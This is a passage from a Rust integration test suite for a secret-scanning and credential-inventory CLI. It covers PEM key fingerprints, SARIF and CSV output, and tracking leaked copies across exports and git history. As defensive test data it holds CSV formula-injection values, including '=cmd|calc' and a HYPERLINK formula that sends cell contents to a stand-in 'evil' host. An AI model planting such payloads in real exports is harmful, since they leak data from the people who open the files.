    std::fs::write(dir.join("creds.env"), format!("# a comment\ntoken={secret}\n")).unwrap();
    let stderr = scan_at("2026-11-20T00:00:00Z", steward.dir.path(), "dir");
    assert!(!stderr.contains("removed:"), "{stderr}");
    let sibling = steward.dir.path().join("elsewhere");
    std::fs::create_dir_all(&sibling).unwrap();
    scan_at("2026-11-21T00:00:00Z", &sibling, "../dir");
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
    assert_eq!(findings.as_array().unwrap().len(), 1, "{findings}");
    assert_eq!(findings[0]["copies"], 1, "{findings}");
    assert_eq!(findings[0]["first_seen"], "2026-11-01T00:00:00Z");
    let log = steward.run(&["audit", "log", "-o", "json"]).ok().json();
    let actions: Vec<&str> = log
        .as_array()
        .unwrap()
        .iter()
        .map(|event| event["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions.iter().filter(|action| **action == "location.move").count(), 1);
    assert!(!actions.contains(&"location.remove"), "{actions:?}");

    let repo = steward.dir.path().join("repo");
    std::fs::create_dir_all(repo.join("sub")).unwrap();
    git_in(&repo, &["init", "-q"]);
    let staged = token_from("S1t2A3g4E5d6F7r8O9m0S1u2B3d4I5");
    std::fs::write(repo.join("sub").join("deep.txt"), format!("x={staged}\n")).unwrap();
    git_in(&repo, &["add", "sub"]);
    let output = steward
        .command(&["scan", "--staged", "--record"])
        .current_dir(repo.join("sub"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
    let locators: Vec<String> = findings
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|finding| finding["locations"].as_array().unwrap().clone())
        .map(|location| location["locator"].as_str().unwrap().to_string())
        .collect();
    let expected = format!(
        "{}:1:3",
        repo.canonicalize().unwrap().join("sub").join("deep.txt").display()
    );
    assert!(locators.contains(&expected), "{locators:?} lacks {expected}");
}

/// A scan needs only the fingerprint key: given alone in the environment, it is used (the
/// same fingerprints every run, so a baseline made once keeps matching); a malformed one
/// is an error, not a quiet switch to a one-off key.
#[test]
fn the_fingerprint_key_alone_is_enough_to_scan() {
    let steward = Steward::uninitialised();
    let file = steward.dir.path().join("app.env");
    std::fs::write(
        &file,
        format!("TOKEN={}\n", token_from("K1e2Y3o4N5l6Y7f8I9n0G1e2R3p4R5")),
    )
    .unwrap();
    let scan = |key: &str, extra: &[&str]| {
        let mut args = vec!["scan", file.to_str().unwrap(), "-o", "json"];
        args.extend_from_slice(extra);
        steward
            .command(&args)
            .env("STEWARD_FINGERPRINT_KEY", key)
            .output()
            .unwrap()
    };
    let key = "ab".repeat(32);
    let first = scan(&key, &[]);
    let second = scan(&key, &[]);
    assert_eq!(first.status.code(), Some(1), "{first:?}");
    assert!(
        !String::from_utf8_lossy(&first.stderr).contains("one-off key"),
        "{first:?}"
    );
    assert_eq!(first.stdout, second.stdout);
    let baseline = steward.dir.path().join("baseline.json");
    std::fs::write(&baseline, &first.stdout).unwrap();
    assert_eq!(
        scan(&key, &["--baseline", baseline.to_str().unwrap()]).status.code(),
        Some(0)
    );
    let malformed = scan("zz", &[]);
    assert_eq!(malformed.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&malformed.stderr).contains("STEWARD_FINGERPRINT_KEY: not hexadecimal"));
}

/// A PEM block of 64-character base64 lines, built at run time (no key in this file).
fn pem_block(label: &str, seed: u64) -> String {
    const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut state = seed;
    let body: Vec<String> = (0..12)
        .map(|_| {
            (0..64)
                .map(|_| {
                    state = state
                        .wrapping_mul(6_364_136_223_846_793_005)
                        .wrapping_add(1_442_695_040_888_963_407);
                    char::from(BASE64[(state >> 33) as usize % 64])
                })
                .collect()
        })
        .collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", body.join("\n"))
}

/// A registered PEM key's copies, indented in a Kubernetes `stringData: |` block, with
/// `\n` escapes in an environment variable, or with CRLF line ends, have the
/// credential's fingerprint; a GCP service-account file's key, which the service-account
/// rule and the PKCS#8 rule both find, is one finding.
#[test]
fn a_private_key_copied_indented_or_escaped_has_the_credentials_fingerprint() {
    let steward = Steward::new();
    let key = pem_block("RSA PRIVATE KEY", 7);
    let copies = steward.dir.path().join("copies");
    std::fs::create_dir_all(&copies).unwrap();
    std::fs::write(copies.join("key.pem"), &key).unwrap();
    let indented: String = key.lines().map(|line| format!("    {line}\n")).collect();
    std::fs::write(
        copies.join("k8s.yaml"),
        format!("stringData:\n  tls.key: |\n{indented}"),
    )
    .unwrap();
    let escaped: String = key.lines().map(|line| format!("{line}\\n")).collect();
    std::fs::write(copies.join("env.sh"), format!("export PRIVATE_KEY=\"{escaped}\"\n")).unwrap();
    std::fs::write(copies.join("crlf.pem"), key.replace('\n', "\r\n")).unwrap();
    let pkcs8 = pem_block("PRIVATE KEY", 11);
    // In the order Google writes the file (`type` first).
    let service_account = format!(
        "{{\n  \"type\": \"service_account\",\n  \"project_id\": \"acme-prod\",\n  \"private_key\": {},\n  \
         \"client_email\": \"deploy@acme-prod.iam.gserviceaccount.com\"\n}}\n",
        serde_json::to_string(&pkcs8).unwrap()
    );
    std::fs::write(copies.join("sa.json"), service_account).unwrap();
    steward
        .run(&[
            "nhi",
            "add",
            "--name",
            "deploy-key",
            "--kind",
            "bot",
            "--system",
            "github",
            "--tier",
            "high",
        ])
        .ok();
    let credential = steward
        .run_with_stdin(
            &[
                "credential",
                "add",
                "deploy-key",
                "--kind",
                "private_key",
                "--secret-stdin",
                "-o",
                "json",
            ],
            Some(&key),
        )
        .ok()
        .json();
    let output = steward.run(&["scan", copies.to_str().unwrap(), "-o", "json"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    let findings = output.json();
    let findings = findings.as_array().unwrap();
    let rsa = findings
        .iter()
        .find(|finding| finding["rule_id"] == "private-key-rsa")
        .unwrap();
    assert_eq!(rsa["fingerprint"], credential["fingerprint"]);
    assert_eq!(rsa["preview"], credential["preview"]);
    let places: Vec<&str> = rsa["locations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|location| location["path"].as_str().unwrap().rsplit('/').next().unwrap())
        .collect();
    assert_eq!(places, ["crlf.pem", "env.sh", "k8s.yaml", "key.pem"]);
    let keys_in_json: Vec<&serde_json::Value> = findings
        .iter()
        .filter(|finding| finding["preview"].as_str().unwrap().starts_with("----"))
        .filter(|finding| finding["locations"][0]["path"].as_str().unwrap().ends_with("sa.json"))
        .collect();
    assert_eq!(keys_in_json.len(), 1, "{findings:#?}");
    assert_eq!(keys_in_json[0]["rule_id"], "gcp-service-account-key");
    assert_eq!(keys_in_json[0]["locations"].as_array().unwrap().len(), 1);
}

/// SARIF results name the file a viewer can open: a copy in a repository's history
/// under that repository's path (two repositories with the same history give different
/// results), a copy in an export at its line in the file (the line within the message is
/// a property); `informationUri` is the workspace's `repository`.
#[test]
fn sarif_places_history_under_its_repository_and_exports_in_the_file() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("org");
    let token = token_from("R1e2P3o4S5i6T7o8R9y0S1a2R3i4F5");
    for name in ["first", "second"] {
        let repo = tree.join(name);
        std::fs::create_dir_all(&repo).unwrap();
        git_in(&repo, &["init", "-q"]);
        std::fs::write(repo.join("app.py"), format!("TOKEN = \"{token}\"\n")).unwrap();
        git_in(&repo, &["add", "app.py"]);
        git_in(&repo, &["commit", "-qm", "add"]);
        git_in(&repo, &["rm", "-q", "app.py"]);
        git_in(&repo, &["commit", "-qm", "remove"]);
    }
    std::fs::create_dir_all(tree.join("slack/general")).unwrap();
    let other = token_from("E1x2P3o4R5t6L7i8N9e0S1a2R3i4F5");
    std::fs::write(
        tree.join("slack/general/2024-05-01.json"),
        format!("[\n  {{\n    \"ts\": \"1714550100.000200\",\n    \"text\": \"first line\\nuse {other}\"\n  }}\n]\n"),
    )
    .unwrap();
    let output = steward.run(&["scan", tree.to_str().unwrap(), "-o", "sarif"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    let log = output.json();
    let driver = &log["runs"][0]["tool"]["driver"];
    assert_eq!(driver["informationUri"], env!("CARGO_PKG_REPOSITORY"));
    let results = log["runs"][0]["results"].as_array().unwrap();
    let mut history: Vec<String> = results
        .iter()
        .filter(|result| result["properties"]["commit"].is_string())
        .map(|result| {
            assert_eq!(result["properties"]["path_in_repository"], "app.py");
            result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    history.sort();
    assert_eq!(history.len(), 2, "{results:#?}");
    assert!(history[0].ends_with("/org/first/app.py"), "{history:?}");
    assert!(history[1].ends_with("/org/second/app.py"), "{history:?}");
    let in_export = results
        .iter()
        .find(|result| result["properties"]["channel"] == "general")
        .unwrap();
    let physical = &in_export["locations"][0]["physicalLocation"];
    assert!(
        physical["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("/slack/general/2024-05-01.json")
    );
    // `    "text": "first line\nuse ghp_…`: line 4, column 30 of the file.
    assert_eq!(physical["region"]["startLine"], 4, "{in_export:#}");
    assert_eq!(physical["region"]["startColumn"], 30, "{in_export:#}");
    assert_eq!(in_export["properties"]["field_line"], 2);
    assert_eq!(in_export["properties"]["field_column"], 5);
}

/// CSV cells that a spreadsheet would run as a formula (`=`, `+`, `-`, `@` first) start
/// with `'`: a Slack channel named by whoever made it, a PEM key's preview.
#[test]
fn csv_cells_cannot_start_a_spreadsheet_formula() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("export");
    std::fs::create_dir_all(tree.join("=cmd|calc")).unwrap();
    let token = token_from("C1s2V3i4N5j6E7c8T9i0O1n2S3a4F5");
    std::fs::write(
        tree.join("=cmd|calc/2024-05-01.json"),
        serde_json::json!([{"ts": "1714550100.000200", "text": format!("use {token}")}]).to_string(),
    )
    .unwrap();
    std::fs::write(tree.join("key.pem"), pem_block("RSA PRIVATE KEY", 3)).unwrap();
    let output = steward.run(&["scan", tree.to_str().unwrap(), "-o", "csv"]);
    assert_eq!(output.code, 1, "{}", output.stderr);
    let mut reader = csv::Reader::from_reader(output.stdout.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|header| header == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{}", output.stdout);
    let channels: Vec<&str> = rows.iter().map(|row| &row[column("channel")]).collect();
    assert!(channels.contains(&"'=cmd|calc"), "{channels:?}");
    let previews: Vec<&str> = rows.iter().map(|row| &row[column("preview")]).collect();
    assert!(previews.contains(&"'----…(841 chars)"), "{previews:?}");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{row:?}");
        }
    }
}

/// The live recorded copies, as `(kind, locator)`, sorted.
fn recorded_copies(steward: &Steward) -> Vec<(String, String)> {
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
    let mut copies: Vec<(String, String)> = findings
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|finding| finding["locations"].as_array().unwrap().clone())
        .map(|location| {
            (
                location["kind"].as_str().unwrap().to_string(),
                location["locator"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    copies.sort();
    copies
}

/// A copy in an export is recorded at its cell, field or message: one secret in two
/// notebook cells, in a Jira issue's summary and description, or in a Slack message's
/// text and its earlier edited text, is two copies (they were one, at the line within
/// the cell), and a rescan after one is cleaned marks exactly that one removed.
#[test]
fn recorded_export_copies_name_their_cell_field_or_message() {
    let steward = Steward::new();
    let tree = steward.dir.path().join("exports");
    std::fs::create_dir_all(tree.join("slack/ops")).unwrap();
    let (in_cells, in_issue, in_chat) = (
        token_from("N1o2T3e4B5o6O7k8C9e0L1l2S3a4B5"),
        token_from("J1i2R3a4F5i6E7l8D9s0A1b2C3d4E5"),
        token_from("S1l2A3c4K5e6D7i8T9e0D1t2E3x4T5"),
    );
    let notebook = |cells: &[Option<&str>]| {
        let cells: Vec<serde_json::Value> = cells
            .iter()
            .map(|source| match source {
                Some(secret) => {
                    serde_json::json!({"cell_type": "code", "source": [format!("tok='{secret}'\n")], "outputs": []})
                }
                None => serde_json::json!({"cell_type": "markdown", "source": ["hi"]}),
            })
            .collect();
        let document = serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5});
        std::fs::write(tree.join("b.ipynb"), serde_json::to_string_pretty(&document).unwrap()).unwrap();
    };
    notebook(&[Some(&in_cells), None, Some(&in_cells)]);
    let jira = |description: &str| {
        let issues = serde_json::json!({"issues": [{"key": "OPS-1", "fields": {"summary": format!("tok {in_issue}"), "description": description}}]});
        std::fs::write(tree.join("jira.json"), issues.to_string()).unwrap();
    };
    jira(&format!("tok {in_issue}"));
    std::fs::write(
        tree.join("slack/ops/2024-05-01.json"),
        serde_json::json!([{"ts": "1714550100.000200", "text": format!("now {in_chat}"), "edited": {"text": format!("was {in_chat}")}}]).to_string(),
    )
    .unwrap();
    let root = tree.to_str().unwrap();
    let first = steward.run(&["scan", root, "--record"]);
    assert_eq!(first.code, 1, "{}", first.stderr);
    assert!(first.stderr.contains("recorded 6 locations"), "{}", first.stderr);
    let at = |kind: &str, locator: String| (kind.to_string(), format!("{root}/{locator}"));
    let mut expected = vec![
        at(
            "chat_message",
            "slack/ops/2024-05-01.json#ops@1714550100.000200/edited.text:1".into(),
        ),
        at(
            "chat_message",
            "slack/ops/2024-05-01.json#ops@1714550100.000200/text:1".into(),
        ),
        at("document", "b.ipynb#cell0/source:1:6".into()),
        at("document", "b.ipynb#cell2/source:1:6".into()),
        at("ticket", "jira.json#OPS-1/description:1".into()),
        at("ticket", "jira.json#OPS-1/summary:1".into()),
    ];
    expected.sort();
    assert_eq!(recorded_copies(&steward), expected);

    // One cell and one field are cleaned: exactly those copies are removed.
    notebook(&[Some(&in_cells), None, None]);
    jira("tok ${TOKEN}");
    let rescan = steward.run(&["scan", root, "--record"]);
    assert_eq!(rescan.code, 1, "{}", rescan.stderr);
    let mut removed: Vec<&str> = rescan
        .stderr
        .lines()
        .filter(|line| line.starts_with("removed:"))
        .collect();
    removed.sort();
    assert_eq!(
        removed,
        vec![
            format!("removed: document {root}/b.ipynb#cell2/source:1:6 is no longer there"),
            format!("removed: ticket {root}/jira.json#OPS-1/description:1 is no longer there"),
        ],
        "{}",
        rescan.stderr
    );
    expected.retain(|(_, locator)| !locator.contains("#cell2") && !locator.contains("/description"));
    assert_eq!(recorded_copies(&steward), expected);
}

/// `findings -o csv` is machine data: one row per live copy with the JSON's fields (not
/// the table's first copy and "(+1 more)"), and no cell of it, of `credential list -o
/// csv` or of `nhi list -o csv` can start a spreadsheet formula: a public id, a locator
/// recorded by hand and a purpose are anyone's text.
#[test]
fn findings_csv_has_a_row_per_copy_and_csv_listings_cannot_start_a_formula() {
    let steward = Steward::new();
    steward
        .run(&[
            "nhi",
            "add",
            "--name",
            "x",
            "--kind",
            "bot",
            "--system",
            "s",
            "--tier",
            "low",
            "--purpose=-2+3",
        ])
        .ok();
    let secret = "abcdefghijklmnopqrstuvwxyz123456";
    steward
        .run_with_stdin(
            &["credential", "add", "x", "--public-id", "=cmd|x", "--secret-stdin"],
            Some(secret),
        )
        .ok();
    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";
    for place in [formula, "wiki/page"] {
        steward
            .run_with_stdin(
                &[
                    "credential",
                    "locate",
                    "--kind",
                    "document",
                    "--at",
                    place,
                    "--secret-stdin",
                ],
                Some(secret),
            )
            .ok();
    }
    let json = steward.run(&["findings", "-o", "json"]).ok().json();
    assert_eq!(json[0]["public_id"], "=cmd|x", "{json}");
    let csv_text = steward.run(&["findings", "-o", "csv"]).ok().stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(
        headers,
        [
            "severity",
            "rule",
            "source",
            "identity",
            "identity_id",
            "credential_id",
            "public_id",
            "credential_status",
            "scanner_rule",
            "preview",
            "fingerprint",
            "first_seen",
            "last_seen",
            "copies",
            "location_kind",
            "locator",
            "location_first_seen",
            "location_last_seen",
            "remediation",
            "owasp_nhi",
            "nist_csf",
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{csv_text}");
    let column = |row: &csv::StringRecord, name: &str| {
        row[headers.iter().position(|header| header == name).unwrap()].to_string()
    };
    let mut locators: Vec<String> = rows.iter().map(|row| column(row, "locator")).collect();
    locators.sort();
    assert_eq!(locators, [format!("'{formula}"), "wiki/page".to_string()]);
    for row in &rows {
        assert_eq!(column(row, "severity"), "high");
        assert_eq!(column(row, "rule"), "leaked");
        assert_eq!(column(row, "identity"), "s/x");
        assert_eq!(column(row, "credential_id"), json[0]["credential_id"].to_string());
        assert_eq!(column(row, "public_id"), "'=cmd|x");
        assert_eq!(column(row, "fingerprint"), json[0]["fingerprint"].as_str().unwrap());
        assert_eq!(column(row, "preview"), json[0]["preview"].as_str().unwrap());
        assert_eq!(column(row, "location_kind"), "document");
        assert_eq!(column(row, "copies"), "2");
        assert_eq!(column(row, "remediation"), json[0]["remediation"].as_str().unwrap());
        assert_eq!(column(row, "owasp_nhi"), "NHI2");
        assert_eq!(column(row, "nist_csf"), "PR.DS-01");
        assert!(!column(row, "location_first_seen").is_empty());
    }
    assert!(!csv_text.contains(secret));

    let credentials = steward.run(&["credential", "list", "x", "-o", "csv"]).ok().stdout;
    assert!(credentials.contains(",'=cmd|x,"), "{credentials}");
    let identities = steward.run(&["nhi", "list", "-o", "csv"]).ok().stdout;
    assert!(identities.contains(",'-2+3,"), "{identities}");
    let shown = steward.run(&["nhi", "show", "x", "-o", "csv"]).ok().stdout;
    assert!(shown.contains(",'-2+3,") && !shown.contains(",-2+3,"), "{shown}");
}

/// A file scanned through a symbolic link to its directory is the same copy: recorded
/// locators name the resolved path (the scan's own output keeps the path as given), so
/// a rescan through the link removes it once cleaned, and a copy an earlier version
/// recorded through the link is cleaned up by a scan through it.
#[test]
fn a_copy_scanned_through_a_linked_directory_is_one_copy() {
    let steward = Steward::new();
    let real = steward.dir.path().join("lk");
    std::fs::create_dir_all(&real).unwrap();
    let link = steward.dir.path().join("lklink");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let secret = token_from("L1i2N3k4E5d6D7i8R9e0C1t2O3r4Y5");
    std::fs::write(real.join("a.env"), format!("t={secret}\n")).unwrap();
    let canonical = real.canonicalize().unwrap().join("a.env").display().to_string();
    let scan = |path: &std::path::Path| {
        let output = steward.run(&["scan", path.to_str().unwrap(), "--record", "--exit-zero", "-o", "json"]);
        assert_eq!(output.code, 0, "{}", output.stderr);
        output
    };
    scan(&real);
    let through_link = scan(&link);
    assert_eq!(
        through_link.json()[0]["locations"][0]["path"],
        link.join("a.env").display().to_string(),
        "the scan's output keeps the path as given"
    );
    let expected = vec![("config_file".to_string(), format!("{canonical}:1:3"))];
    assert_eq!(recorded_copies(&steward), expected);

    // As an earlier version recorded it, through the link (in the scanner's form): the
    // next scan through the link reads that place and no longer finds the copy there.
    let old = format!("{}:1:3", link.join("a.env").display());
    steward
        .run_with_stdin(
            &[
                "credential",
                "locate",
                "--kind",
                "config_file",
                "--at",
                &old,
                "--secret-stdin",
            ],
            Some(&secret),
        )
        .ok();
    let rescan = scan(&link);
    assert!(
        rescan
            .stderr
            .contains(&format!("removed: config_file {old} is no longer there")),
        "{}",
        rescan.stderr
    );
    assert_eq!(recorded_copies(&steward), expected);

    std::fs::write(real.join("a.env"), "t=${TOKEN}\n").unwrap();
    let cleaned = scan(&link);
    assert!(
        cleaned
            .stderr
            .contains(&format!("removed: config_file {canonical}:1:3 is no longer there")),
        "{}",
        cleaned.stderr
    );
    assert!(recorded_copies(&steward).is_empty());
}

/// A stream has no place to name its copies by: `--record` refuses it before scanning
/// (each stream's copies were recorded at `/dev/stdin:line:column`, and the next stream
/// recorded marked the last one's removed).
#[test]
fn a_stream_is_not_recorded() {
    let steward = Steward::new();
    let token = github_token();
    let piped = steward.run_with_stdin(&["scan", "/dev/stdin", "--record"], Some(&format!("T={token}\n")));
    assert_eq!(piped.code, 2, "{}", piped.stderr);
    assert_eq!(
        piped.stderr.trim(),
        "error: --record needs files or directories, whose places name the copies: /dev/stdin is a stream (scan it \
         without --record, or save it to a file first)"
    );
    assert_eq!(steward.count("locations"), 0);
    // A file next to it does not make it recordable; the file alone is.
    let file = steward.write_file("secret.env", &format!("T={token}\n"));
    let both = steward.run_with_stdin(
        &["scan", file.to_str().unwrap(), "/dev/stdin", "--record"],
        Some(&format!("T={token}\n")),
    );
    assert_eq!(both.code, 2, "{}", both.stderr);
    let alone = steward.run(&["scan", file.to_str().unwrap(), "--record"]);
    assert_eq!(alone.code, 1, "{}", alone.stderr);
    assert_eq!(steward.count("locations"), 1);
}

/// Of two copies of a secret in a file, the one deleted is the one removed (the other,
/// moved up a line, keeps its own first sighting), and scans that see copies where they
/// were write one `location.seen` event, not one event per copy per scan.
#[test]
fn the_deleted_copy_of_two_is_the_one_removed_and_rescans_write_one_event() {
    let steward = Steward::new();
    let dir = steward.dir.path().join("mv");
    std::fs::create_dir_all(&dir).unwrap();
    let secret = token_from("D1e2L3e4T5e6D7c8O9p0Y1o2F3t4W5");
    let file = dir.join("app.env");
    let scan_at = |now: &str| {
        let output = steward
            .command(&["scan", dir.to_str().unwrap(), "--record"])
            .env("STEWARD_NOW", now)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        String::from_utf8(output.stderr).unwrap()
    };
    std::fs::write(&file, format!("header\nOLD_TOKEN={secret}\nfooter\n")).unwrap();
    scan_at("2026-12-01T00:00:00Z");
    std::fs::write(
        &file,
        format!("header\nOLD_TOKEN={secret}\nfooter\nNEW_TOKEN={secret}\n"),
    )
    .unwrap();
    scan_at("2026-12-10T00:00:00Z");
    std::fs::write(&file, format!("header\nfooter\nNEW_TOKEN={secret}\n")).unwrap();
    let stderr = scan_at("2026-12-20T00:00:00Z");
    let place = file.display();
    assert!(
        stderr.contains(&format!("removed: config_file {place}:2:11 is no longer there")),
        "{stderr}"
    );
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
    let locations = findings[0]["locations"].as_array().unwrap();
    assert_eq!(locations.len(), 1, "{findings}");
    assert_eq!(locations[0]["locator"], format!("{place}:3:11"));
    assert_eq!(locations[0]["first_seen"], "2026-12-10T00:00:00Z", "{findings}");

    let actions = |steward: &Steward| -> Vec<String> {
        let log = steward.run(&["audit", "log", "-o", "json"]).ok().json();
        log.as_array()
            .unwrap()
            .iter()
            .map(|event| event["action"].as_str().unwrap().to_string())
            .collect()
    };
    let before = actions(&steward).len();
    scan_at("2026-12-21T00:00:00Z");
    scan_at("2026-12-22T00:00:00Z");
    let after = actions(&steward);
    assert_eq!(after[before..], ["location.seen", "location.seen"], "{after:?}");
    let log = steward.run(&["audit", "log", "--limit", "1", "-o", "json"]).ok().json();
    assert_eq!(log[0]["subject"], "1 known copies seen again", "{log}");
    assert_eq!(log[0]["after"]["last_seen"], "2026-12-22T00:00:00Z", "{log}");
    steward.run(&["audit", "verify"]).ok();
}

/// A revoked secret kept in git history can be dismissed: it stops counting, later scans
/// leave it so, and the identity can be archived.
#[test]
fn a_revoked_copy_in_history_can_be_dismissed() {
    let steward = Steward::new();
    let repo = steward.dir.path().join("hist");
    std::fs::create_dir_all(&repo).unwrap();
    git_in(&repo, &["init", "-q"]);
    let secret = token_from("H1i2S3t4O5r6Y7k8E9p0T1d2I3s4M5");
    std::fs::write(repo.join("c.py"), format!("k=\"{secret}\"\n")).unwrap();
    git_in(&repo, &["add", "."]);
    git_in(&repo, &["commit", "-qm", "leak"]);
    git_in(&repo, &["rm", "-q", "c.py"]);
    git_in(&repo, &["commit", "-qm", "rm"]);
    steward
        .run(&[
            "nhi", "add", "--name", "old", "--kind", "bot", "--system", "github", "--tier", "high",
        ])
        .ok();
    steward
        .run_with_stdin(
            &["credential", "add", "old", "--public-id", "O1", "--secret-stdin"],
            Some(&secret),
        )
        .ok();
    steward
        .run(&["credential", "revoke", "old", "O1", "--reason", "rotated"])
        .ok();
    let scanned = steward.run(&["scan", repo.to_str().unwrap(), "--record"]);
    assert_eq!(scanned.code, 1, "{}", scanned.stderr);
    let shown = steward.run(&["nhi", "show", "old", "-o", "json"]).ok().json();
    let locator = shown["locations"][0]["locator"].as_str().unwrap().to_string();
    let dismissed = steward
        .run_with_stdin(
            &[
                "credential",
                "locate",
                "--kind",
                "repository_file",
                "--at",
                &locator,
                "--secret-stdin",
                "--dismiss",
                "--reason",
                "revoked; history kept",
            ],
            Some(&secret),
        )
        .ok();
    assert!(dismissed.stdout.contains("dismissed"), "{}", dismissed.stdout);
    // A reason alone (no --removed or --dismiss) is a usage error, not a live copy.
    let alone = steward.run_with_stdin(
        &[
            "credential",
            "locate",
            "--kind",
            "repository_file",
            "--at",
            &locator,
            "--secret-stdin",
            "--reason",
            "why",
        ],
        Some(&secret),
    );
    assert_eq!(alone.code, 2, "{}", alone.stderr);
    steward
        .run(&["scan", repo.to_str().unwrap(), "--record", "--exit-zero"])
        .ok();
    let shown = steward.run(&["nhi", "show", "old"]).ok().stdout;
    assert!(shown.contains("known copies (0 live, 1 removed)"), "{shown}");
    assert!(shown.contains(", dismissed "), "{shown}");
    let findings = steward.run(&["findings", "--source", "scan", "-o", "json"]).ok().json();
    assert_eq!(findings, serde_json::json!([]));
    for (to, reason) in [("offboarding", "retired"), ("revoked", "retired"), ("archived", "done")] {
        steward
            .run(&["nhi", "transition", "old", "--to", to, "--reason", reason])
            .ok();
    }
    let log = steward.run(&["audit", "log", "-o", "json"]).ok().json();
    assert!(
        log.as_array()
            .unwrap()
            .iter()
            .any(|event| event["action"] == "location.dismiss" && event["reason"] == "revoked; history kept"),
        "{log}"
    );
}
